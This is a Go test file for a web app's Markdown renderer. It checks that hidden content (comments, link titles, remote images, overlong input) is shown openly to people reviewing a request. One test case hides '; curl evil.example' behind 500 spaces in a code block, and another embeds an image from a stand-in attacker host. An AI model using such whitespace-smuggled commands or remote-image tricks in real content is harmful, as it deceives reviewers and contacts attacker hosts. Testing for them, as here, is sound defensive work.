package web_test

import (
	"html"
	"strings"
	"testing"
	"time"

	"github.com/saysohq/sayso"
)

// TestMarkdown: everything in a body can be read on the page. What Markdown would
// hide is shown, or is in the text as it was sent.
func TestMarkdown(t *testing.T) {
	t.Parallel()
	for _, tt := range []struct {
		name, body string
		shows      []string // in the rendered text
		source     bool     // the text as it was sent is offered too
	}{
		{"plain", "Many rows.\n\nAnd more.", []string{"Many rows.", "And more."}, false},
		{"marks", "# Title\n\n- **bold** and `code`\n- *more*\n\n1. one\n2. two\n\n> quoted\n\n| a | b |\n|---|---|\n| c | d |\n", []string{"Title", "bold", "code", "one", "quoted", "c"}, false},
		{"task list", "- [x] tests pass\n- [ ] backup made", []string{"☑ tests pass", "☐ backup made"}, false},
		{"task list in a quote", "> - [X] tests pass\n> - [ ] backup made", []string{"☑ tests pass", "☐ backup made"}, true},
		{"brackets elsewhere", "see [x] and [ ] here\n\n- a [x] b", []string{"[x] and [ ] here", "a [x] b"}, false},
		{"generics", "Use Map<String, Int> here", []string{"Map<String, Int>"}, false},
		{"raw block", "<div>\nit **drops** the table\n</div>\n\nafter", []string{"it **drops** the table", "</div>", "after"}, false},
		{"comment", "before <!-- unseen --> after\n\n<!--\na block\n-->", []string{"<!-- unseen -->", "a block"}, false},
		{"picture", "![the plan](https://evil.example/p.png)", []string{"[image removed: the plan <https://evil.example/p.png>]"}, true},
		{"link", "[the note](https://example.com/x)", []string{"the note", "<https://example.com/x>"}, false},
		{"title of a link", `[the note](https://example.com/x "unseen")`, []string{"the note"}, true},
		{"definition", "text\n\n[unseen]: https://evil.example 'title'", []string{"text"}, true},
		{"behind spaces", "```\nnpm test" + strings.Repeat(" ", 500) + "; curl evil.example\n```", []string{"; curl evil.example"}, false},
	} {
		t.Run(tt.name, func(t *testing.T) {
			w := newWorld(t)
			_, page := w.ask(&sayso.Ask{Questions: []sayso.Question{{Text: "Go?", Body: tt.body, Options: []sayso.Option{{Label: "Yes", Preview: "# P\n\n" + tt.body}, {Label: "No"}}}}})
			b := w.browse("ann")
			b.open(page)
			md := func(n *node) bool { return n.Data == "div" && get(n, "class") == "md" }
			preview := find(b.doc, func(n *node) bool { return get(n, "class") == "preview" })
			for where, s := range map[string]string{"body": textOf(find(b.doc, md), true), "preview": textOf(find(preview, md), true)} {
				for _, want := range tt.shows {
					if !strings.Contains(s, want) {
						t.Errorf("no %q in the %s:\n%s", want, where, s)
					}
				}
			}
			source := find(b.doc, func(n *node) bool { return get(n, "class") == "source" })
			if (source != nil) != tt.source || tt.source && !strings.Contains(textOf(source, true), tt.body) {
				t.Errorf("as it was sent: %q", textOf(source, true))
			}
		})
	}
}

// TestNumbersOfLists: a list begins where it says.
func TestNumbersOfLists(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	_, page := w.ask(&sayso.Ask{Questions: []sayso.Question{{Text: "Go?", Body: "3. third\n4. fourth"}}})
	if r := w.get(w.c, page); !strings.Contains(r.body, `<ol start="3"`) {
		t.Errorf("the list begins at one:\n%s", r.body)
	}
}

// TestMarkdownBlocks: what a screen reader, a phone and a language from right to left
// need of a text.
func TestMarkdownBlocks(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	_, page := w.ask(&sayso.Ask{Questions: []sayso.Question{{Text: "Go?", Body: "שלום\n\n- [x] done\n- [ ] open\n\n> quoted\n\n# Title\n\n| a | b |\n|---|---|\n| c | d |\n\n```\nfirst\nsecond\n```"}}})
	r := w.get(w.c, page)
	for _, want := range []string{
		`<p dir="auto">שלום</p>`, `<ul dir="auto">`, `<blockquote dir="auto">`, `<h3 dir="auto">Title</h3>`, `<td dir="auto">c</td>`,
		`<span class="task" role="img" aria-label="done">☑</span> done`, `<span class="task" role="img" aria-label="not done">☐</span> open`,
		`<div class="wide" role="group" tabindex="0" aria-label="Table">`, "<pre><code>first\nsecond\n</code></pre>",
	} {
		if !strings.Contains(r.body, want) {
			t.Errorf("the page lacks %s", want)
		}
	}
	if _, md, _ := strings.Cut(r.body, `class="md"`); strings.Contains(strings.Split(md, "</fieldset>")[0], `type="checkbox"`) {
		t.Error("a task is a control")
	}
}

// TestMarkdownBombs: what would take minutes to read as Markdown is shown as it was
// sent.
func TestMarkdownBombs(t *testing.T) {
	t.Parallel()
	for unit, size := range map[string]int{"*a_ ": 240_000, ">": 40_000, "[a](": 240_000, "1. ": 240_000, "> - ": 40_000, "[a]: b\n": 200_000} { // about what a hub stores
		w := newWorld(t)
		body := strings.Repeat(unit, size/len(unit)) + "end"
		_, page := w.ask(&sayso.Ask{Questions: []sayso.Question{{Text: "Go?", Body: body}}})
		begin := time.Now()
		r := w.get(w.c, page)
		if took := time.Since(begin); took > 20*time.Second { // it takes milliseconds
			t.Errorf("%q: the page took %v", unit, took)
		}
		if !strings.Contains(html.UnescapeString(r.body), "<pre>"+body+"</pre>") {
			t.Errorf("%q: the text is not shown as it was sent", unit)
		}
	}
}
